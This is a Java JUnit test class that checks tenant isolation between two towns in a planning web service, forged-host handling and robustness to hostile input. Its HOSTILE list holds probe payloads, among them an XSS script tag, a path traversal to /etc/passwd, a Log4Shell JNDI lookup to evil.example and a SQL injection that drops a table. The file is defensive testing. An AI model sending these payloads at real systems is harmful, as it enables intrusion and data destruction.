package org.openplan.journeys;

import static org.assertj.core.api.Assertions.assertThat;
import static org.openplan.journeys.Needs.Part.CHROMIUM;
import static org.openplan.journeys.Needs.Part.KEYCLOAK;
import static org.openplan.journeys.Needs.Part.MYSQL;

import java.io.IOException;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.api.parallel.ResourceAccessMode;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openplan.Visitor;

/// Two towns on one service, and everything somebody might try to look over the fence.
@Needs({MYSQL, KEYCLOAK, CHROMIUM})
@Execution(ExecutionMode.CONCURRENT)
@ResourceLock(value = Turn.PROCESSOR, mode = ResourceAccessMode.READ)
@ResourceLock(value = Turn.PAGES, mode = ResourceAccessMode.READ)
@ResourceLock(value = Turn.ACCOUNTS, mode = ResourceAccessMode.READ)
class IsolationJourney {

    private static final String EVIL = "evil.example";
    private static final List<String> SCREENS = List.of(
            "",
            "/plan",
            "/plan/PLAN",
            "/plan/PLAN/measures/1",
            "/plan/PLAN/adoption",
            "/plan/PLAN/next-edition",
            "/import",
            "/reporting",
            "/publication",
            "/people",
            "/history");
    private static final List<String> HOSTILE = List.of(
            "'",
            "\" onload=alert(1)",
            "<script>alert(1)</script>",
            "%",
            "%00",
            "../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "1 or 1=1; drop table page",
            "-1",
            "99999999999999999999",
            "\u202e\ud83d\udca5",
            "a".repeat(3_000));

    @BeforeAll
    static void start() {
        Service.on(Service.Database.MYSQL);
        Demo.isPublished();
    }

    @ParameterizedTest
    @Execution(ExecutionMode.CONCURRENT)
    @CsvSource({
        "coordinator, novi-pazar, primer, Primer",
        "officer, novi-pazar, primer, Primer",
        "coordinator, primer, novi-pazar, Novi Pazar",
        "cso, primer, novi-pazar, Novi Pazar",
        "monitor, primer, novi-pazar, Novi Pazar"
    })
    void noScreenOfTheOtherTownOpensNotEvenItsName(String role, String home, String other, String name) {
        var plan = Demo.plan("en").replaceAll(".*/", "");
        try (var person = new Browser()) {
            person.signIn(role + "@" + home + ".example");
            for (var screen : SCREENS) {
                person.open("/app/" + other + screen.replace("PLAN", plan)).reads("There is nothing at this address");
                assertThat(person.text()).as(other + screen).doesNotContain(name);
                assertThat(person.driver().getTitle()).as(other + screen).doesNotContain(name);
            }
        }
    }

    @Test
    void theWorkspaceIsClosedToWhoIsNotSignedIn() {
        for (var screen : SCREENS) {
            var answer = Service.VISITOR.get("/app/primer" + screen);
            assertThat(answer.statusCode()).as(screen).isIn(302, 401, 403, 404);
            assertThat(Visitor.text(answer)).as(screen).doesNotContain("Primer");
        }
    }

    @Test
    void evidenceOfOneTownIsNotAtTheOthersAddress() {
        var document = Service.VISITOR.read(Demo.plan("en") + ".json");
        var files = Pattern.compile("\"file\":\"([0-9a-f]{64})\"")
                .matcher(document)
                .results()
                .map(file -> file.group(1))
                .toList();
        assertThat(files).isNotEmpty();
        for (var file : files) {
            assertThat(Service.VISITOR.get("/primer/evidence/" + file).statusCode())
                    .isEqualTo(200);
            assertThat(Service.VISITOR.get("/novi-pazar/evidence/" + file).statusCode())
                    .isEqualTo(404);
        }
    }

    @Test
    void noAddressOfOnePlanLeadsToTheOtherTown() {
        var plan = Demo.plan("en");
        for (var ending :
                List.of("", ".json", "/measures/1", "/changes", "/versions", "/versions/1", "/versions/1.json")) {
            var there = Service.VISITOR.get(plan + ending);
            var here = Service.VISITOR.get(plan.replace("/primer/", "/novi-pazar/") + ending);
            assertThat(there.statusCode()).as(ending).isEqualTo(200);
            assertThat(here.statusCode()).as(ending).isEqualTo(404);
            assertThat(Visitor.text(here)).as(ending).doesNotContain("Primer");
        }
    }

    @Test
    void aForgedHostChangesNothing() throws IOException {
        for (var page : List.of("/", "/primer/", "/primer/en/", Demo.plan("en"), "/sitemap.xml", "/robots.txt")) {
            var honest = Service.VISITOR.get(page);
            var forwarded = Service.VISITOR.get(
                    page, "X-Forwarded-Host", EVIL, "X-Forwarded-Proto", "https", "Forwarded", "host=" + EVIL);
            assertThat(forwarded.statusCode()).as(page).isEqualTo(honest.statusCode());
            assertThat(forwarded.body()).as(page).isEqualTo(honest.body());
            assertThat(forwarded.headers().toString()).as(page).doesNotContain(EVIL);
            assertThat(withHost(page)).as(page).doesNotContain(EVIL);
        }
    }

    @Test
    void nobodyIsSentToAForgedHostToSignIn() {
        var sent = Service.VISITOR.get(
                "/oauth2/authorization/keycloak", "X-Forwarded-Host", EVIL, "Forwarded", "host=" + EVIL);
        assertThat(sent.headers().firstValue("Location"))
                .hasValueSatisfying(there -> assertThat(there)
                        .startsWith(KeycloakServer.ADDRESS.toString())
                        .doesNotContain(EVIL));
    }

    @Test
    void whateverIsWrittenIntoAnAddressIsAnsweredDecently() {
        var found = new ArrayList<String>();
        for (var page : List.of("/", "/primer/en/", Demo.plan("en"), Demo.plan("en") + ".json", "/primer/evidence/x"))
            for (var name : List.of("q", "lang", "page", "sort", "v-r", "continue"))
                for (var value : HOSTILE) {
                    var asked = page + "?" + name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
                    var answer = Service.VISITOR.get(asked);
                    if (answer.statusCode() >= 500) found.add(answer.statusCode() + " at " + asked);
                    if (Visitor.text(answer).contains("<script>alert")) found.add("A script ran through at " + asked);
                    if (!answer.headers().allValues("Set-Cookie").isEmpty()) found.add("A cookie at " + asked);
                }
        for (var value : HOSTILE)
            for (var form : List.of("/%s", "/primer/%s", "/primer/en/plans/%s", "/%s/en/", "/primer/evidence/%s")) {
                var asked = form.formatted(
                        URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20"));
                int status = Service.VISITOR.get(asked).statusCode();
                if (status >= 500 || status == 200) found.add(status + " at " + asked);
            }
        assertThat(found).isEmpty();
    }

    /// The JDK's own client does not let anyone lie about the host.
    private static String withHost(String page) throws IOException {
        try (var socket = new Socket("127.0.0.1", Ports.OPENPLAN)) {
            var request = "GET " + page + " HTTP/1.1\r\nHost: " + EVIL + "\r\nConnection: close\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
